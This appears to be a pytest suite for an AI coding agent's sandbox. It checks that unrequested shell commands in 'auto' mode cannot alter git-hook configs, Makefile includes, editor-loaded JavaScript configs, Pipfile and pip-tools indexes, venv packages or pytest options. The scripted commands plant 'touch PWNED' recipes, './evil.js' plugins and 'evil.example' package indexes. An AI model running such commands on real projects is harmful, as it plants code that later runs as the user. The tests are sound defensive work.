"""Findings S5, S12, S20, S22 and S11 through the console script, bubblewrap and a real git
repository: files that run later as the user, which ``auto`` mode's unasked command could
change unsaid: lint-staged's, commitlint's and simple-git-hooks' data configs, a hook's
``make -f ci.mk`` and a Makefile's ``include $(wildcard mk/*.mk)``, the JavaScript configs
editor extensions load on open, Pipfile's ``[[source]]`` and pip-tools' ``*.in`` index lines,
and the packages a venv program requires (pytest → pluggy)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

from ..sandboxing import require_sandbox
from .conftest import RunCli
from .test_hook_configs_cli import committed


def run(run_cli: RunCli, script: Callable[[list[Any]], str], command: str) -> str:
    """Run ``command`` unasked; the tool result the model saw."""
    turns = [{"tool_calls": [{"name": "run_shell", "args": {"command": command}}]}, "Done."]
    r = run_cli("-p", "go", "--model", script(turns), "--permission-mode", "auto", "--approve", "never",
                "--no-session", "--output-format", "json")
    assert r.returncode == 0, r.stderr
    return r.stdout


def test_lint_staged_commitlint_and_simple_git_hooks_configs_stay_as_they_were(
    run_cli: RunCli, script: Callable[[list[Any]], str], workspace: Path
) -> None:
    """S5: the next commit runs what these name (lint-staged's commands, commitlint's plugins)."""
    require_sandbox()
    files = {".lintstagedrc": '{"*.js": "eslint"}\n', ".lintstagedrc.json": '{"*.md": "prettier"}\n',
             ".commitlintrc.json": '{"extends": ["@commitlint/config-conventional"]}\n',
             ".simple-git-hooks.json": '{"pre-commit": "npx lint-staged"}\n'}
    committed(workspace, {".husky/pre-commit": "npx lint-staged\n", **files})
    out = run(run_cli, script, "for f in .lintstagedrc .lintstagedrc.json .simple-git-hooks.json; do "
                               "echo '{\"*.js\": \"touch PWNED\"}' > $f; done; "
                               "echo '{\"plugins\": [\"./evil.js\"]}' > .commitlintrc.json; true")
    for name, text in files.items():
        assert (workspace / name).read_text() == text, name
    assert ".lintstagedrc" in out and "commit" in out  # said, with why


def test_a_hooks_make_file_and_a_makefiles_globbed_includes_stay_as_they_were(
    run_cli: RunCli, script: Callable[[list[Any]], str], workspace: Path
) -> None:
    """S12: ``make -f ci.mk lint`` and ``include $(wildcard mk/*.mk)``: changed or new, the
    next commit ran their recipes."""
    require_sandbox()
    files = {".husky/pre-commit": "make -f ci.mk lint\nmake check\n", "ci.mk": "lint:\n\ttrue\n",
             "Makefile": "include $(wildcard mk/*.mk)\n-include local.mk\ncheck:\n\ttrue\n",
             "mk/base.mk": "base:\n\ttrue\n"}
    committed(workspace, files)
    subprocess.run(["git", "config", "core.hooksPath", ".husky"], cwd=workspace, check=True)
    out = run(run_cli, script, "printf 'lint:\\n\\ttouch PWNED\\n' > ci.mk; "
                               "printf 'x:\\n\\ttouch PWNED\\n' > mk/base.mk; "
                               "printf 'y:\\n\\ttouch PWNED\\n' > mk/zz.mk; "
                               "echo 'check: ; touch PWNED' > local.mk; echo ok > notes.txt; true")
    for name, text in files.items():
        assert (workspace / name).read_text() == text, name
    assert not (workspace / "mk" / "zz.mk").exists()
    assert not (workspace / "local.mk").exists()  # make's -include reads one a command creates
    assert (workspace / "notes.txt").read_text() == "ok\n"  # the rest of the work tree stays writable
    assert "ci.mk" in out


def test_javascript_configs_editor_extensions_load_on_open_are_not_planted(
    run_cli: RunCli, script: Callable[[list[Any]], str], workspace: Path
) -> None:
    """S20: Playwright's, Vite's, Vitest's workspace, UnoCSS's, GraphQL's, Apollo's and
    Mocha's configs run (JavaScript) when the editor opens the folder."""
    require_sandbox()
    committed(workspace, {"README.md": "x\n"})
    names = ["playwright.config.ts", "vitest.workspace.ts", "vite.config.ts", "uno.config.ts",
             "graphql.config.js", ".graphqlrc.ts", "apollo.config.js", ".mocharc.js", "panda.config.ts"]
    run(run_cli, script, " ".join(f"echo 'require(\"child_process\")' > {n};" for n in names) + " true")
    for name in names:
        assert not (workspace / name).exists(), name


def test_pipfile_source_and_pip_tools_inputs_are_set_back(
    run_cli: RunCli, script: Callable[[list[Any]], str], workspace: Path
) -> None:
    """S22: ``pipenv install`` and ``pip-compile`` get every package from where these say."""
    require_sandbox()
    pipfile = ('[[source]]\nurl = "https://pypi.org/simple"\nverify_ssl = true\nname = "pypi"\n\n'
               '[packages]\nrequests = "*"\n')
    committed(workspace, {"Pipfile": pipfile, "requirements/base.in": "django\n",
                          "requirements/base.txt": "django==5.0\n", "Makefile.in": "-include x.mk\n"})
    out = run(run_cli, script, "sed -i 's#pypi.org#evil.example#' Pipfile; for f in requirements/base.*; do "
                               "printf -- '--index-url https://evil.example/simple\\ndjango\\n' > $f; done; "
                               "echo '-include y.mk' > Makefile.in; echo flask > requirements/dev.in")
    assert (workspace / "Pipfile").read_text() == pipfile
    assert "evil.example" not in (workspace / "requirements" / "base.in").read_text()
    assert "evil.example" not in (workspace / "requirements" / "base.txt").read_text()
    assert "Pipfile" in out and "pipenv" in out
    assert (workspace / "Makefile.in").read_text() == "-include y.mk\n"  # a build template: no pip file
    assert (workspace / "requirements" / "dev.in").read_text() == "flask\n"  # a dependency: any edit


def test_what_a_venv_program_requires_is_read_only(
    run_cli: RunCli, script: Callable[[list[Any]], str], workspace: Path
) -> None:
    """S11: a program's dist (with a program in bin/) requires another; its package is run
    by the user's next use of that program, so it is read-only as the program's own is, and
    so is a plugin (entry points of a group such as ``pytest11``). A package nothing there
    names, or only an extra requires, stays writable."""
    require_sandbox()
    venv = [os.path.realpath(sys.executable), "-m", "venv", "--without-pip", str(workspace / ".venv")]
    subprocess.run(venv, check=True)
    site = next((workspace / ".venv" / "lib").glob("python*/site-packages"))
    for name, requires, program in (("tool", "Requires-Dist: helper (>=1)\nRequires-Dist: extra-only; "
                                     'extra == "dev"\n', True), ("helper", "", False), ("loose", "", False),
                                    ("extra_only", "", False), ("plug", "", False)):
        (site / name).mkdir()
        (site / name / "__init__.py").write_text("x = 1\n")
        info = site / f"{name}-1.0.dist-info"
        info.mkdir()
        (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n{requires}\n")
        rows = [f"{name}/__init__.py,,", f"{info.name}/METADATA,,", f"{info.name}/RECORD,,"]
        if program:
            (workspace / ".venv" / "bin" / name).write_text(f"#!/bin/sh\nexec python -m {name}\n")
            rows.append(f"../../../bin/{name},,")
        if name == "plug":  # a pytest plugin: pytest imports it at every start
            (info / "entry_points.txt").write_text("[pytest11]\nplug = plug\n")
        (info / "RECORD").write_text("\n".join(rows) + "\n")
    run(run_cli, script, "for p in tool helper loose extra_only plug; do "
                         "echo 'import os' >> .venv/lib/python3*/site-packages/$p/__init__.py; done; true")
    assert (site / "tool" / "__init__.py").read_text() == "x = 1\n"
    assert (site / "helper" / "__init__.py").read_text() == "x = 1\n"
    assert (site / "plug" / "__init__.py").read_text() == "x = 1\n"
    assert (site / "loose" / "__init__.py").read_text().endswith("import os\n")
    assert (site / "extra_only" / "__init__.py").read_text().endswith("import os\n")




def test_a_hooks_pytest_config_and_conftest_stay_as_they_were(
    run_cli: RunCli, script: Callable[[list[Any]], str], workspace: Path
) -> None:
    """S13: a hook runs ``pytest -q tests``: ``pytest.ini``'s ``addopts = -p plugin`` and a new
    ``tests/conftest.py`` ran as the user at the next commit."""
    require_sandbox()
    files = {".git-hooks/pre-commit": "#!/bin/sh\n.venv/bin/pytest -q tests\n", "pytest.ini": "[pytest]\n",
             "tests/test_a.py": "def test_a():\n    pass\n"}
    committed(workspace, files)
    subprocess.run(["git", "config", "core.hooksPath", ".git-hooks"], cwd=workspace, check=True)
    run(run_cli, script, "printf '[pytest]\\naddopts = -p evilplug\\n' > pytest.ini; "
                         "echo 'import os' > tests/conftest.py; echo 'import os' > evilplug.py; true")
    assert (workspace / "pytest.ini").read_text() == "[pytest]\n"
    assert not (workspace / "tests" / "conftest.py").exists()


def test_a_file_edit_of_what_a_hooks_make_includes_asks(
    run_cli: RunCli, script: Callable[[list[Any]], str], workspace: Path
) -> None:
    """S12, the file tools' side: in ``accept-edits``, creating the ``local.mk`` a hook's
    Makefile ``-include``s, or a file in the folder it globs, asks (refused with
    ``--approve never``); another file is written."""
    require_sandbox()
    committed(workspace, {".husky/pre-commit": "make check\n", "mk/base.mk": "base:\n",
                          "Makefile": "include $(wildcard mk/*.mk)\n-include local.mk\ncheck:\n\ttrue\n"})
    subprocess.run(["git", "config", "core.hooksPath", ".husky"], cwd=workspace, check=True)
    writes = [{"name": "write_file", "args": {"path": p, "content": "check: ; touch PWNED\n"}}
              for p in ("local.mk", "mk/zz.mk", "notes.mk")]
    r = run_cli("-p", "go", "--model", script([{"tool_calls": writes}, "Done."]), "--permission-mode",
                "accept-edits", "--approve", "never", "--no-session", "--output-format", "json")
    assert r.returncode == 0, r.stderr
    assert not (workspace / "local.mk").exists()
    assert not (workspace / "mk" / "zz.mk").exists()
    assert (workspace / "notes.mk").exists()


def test_commitlint_in_package_json_is_set_back(
    run_cli: RunCli, script: Callable[[list[Any]], str], workspace: Path
) -> None:
    """S5: package.json's ``commitlint`` key names the plugins the commit-msg hook loads:
    set back, the command's other edit of the file kept."""
    require_sandbox()
    config = {"version": "1.0.0", "commitlint": {"extends": ["@commitlint/config-conventional"]}}
    package = json.dumps(config, indent=2) + "\n"  # npm's layout
    committed(workspace, {"package.json": package})
    out = run(run_cli, script, "python3 -c \"import json; d = json.load(open('package.json')); "
                               "d['version'] = '1.0.1'; d['commitlint']['plugins'] = ['./evil.js']; "
                               "open('package.json', 'w').write(json.dumps(d, indent=2) + '\\\\n')\"")
    assert (workspace / "package.json").read_text() == package.replace("1.0.0", "1.0.1")
    assert "commitlint" in out


def test_pytest_options_in_pyproject_are_set_back_when_a_hook_runs_pytest(
    run_cli: RunCli, script: Callable[[list[Any]], str], workspace: Path
) -> None:
    """S13: with ``pytest -q`` in ``.husky/pre-commit``, ``[tool.pytest.ini_options]``'s
    ``addopts = "-p evilplug"`` would load a module as the user at the next commit: set back
    (the whole file here, as the table cannot be set back alone), and said."""
    require_sandbox()
    pyproject = ('[project]\nname = "x"\nversion = "1.0.0"\n\n'
                 '[tool.pytest.ini_options]\ntestpaths = ["tests"]\n')
    committed(workspace, {".husky/pre-commit": "pytest -q\n", "pyproject.toml": pyproject})
    out = run(run_cli, script, "printf 'addopts = \"-p evilplug\"\\n' >> pyproject.toml; true")
    assert (workspace / "pyproject.toml").read_text() == pyproject
    assert "pytest" in out


def test_what_a_hooks_justfile_and_taskfile_include_stays_as_it_was(
    run_cli: RunCli, script: Callable[[list[Any]], str], workspace: Path
) -> None:
    """S12's kin: a hook's ``just lint`` and ``task lint`` run the recipes of the files their
    task file imports (``import 'just/common.just'``, ``import? 'opt.just'``, a Taskfile's
    ``includes:``) as the user at the next commit."""
    require_sandbox()
    files = {".husky/pre-commit": "just lint\ntask lint\n",
             "justfile": "import 'just/common.just'\nimport? 'opt.just'\nlint:\n  true\n",
             "just/common.just": "fmt:\n  true\n",
             "Taskfile.yml": "version: '3'\nincludes:\n  docs: ./docs/Taskfile.yml\n"
                             "tasks:\n  lint:\n    cmds: [true]\n",
             "docs/Taskfile.yml": "version: '3'\n"}
    committed(workspace, files)
    subprocess.run(["git", "config", "core.hooksPath", ".husky"], cwd=workspace, check=True)
    run(run_cli, script, "echo 'lint:\n  touch PWNED' > opt.just; "
                         "for f in just/common.just docs/Taskfile.yml; do echo '# PWNED' >> $f; done; true")
    for name, text in files.items():
        assert (workspace / name).read_text() == text, name
    assert not (workspace / "opt.just").exists()
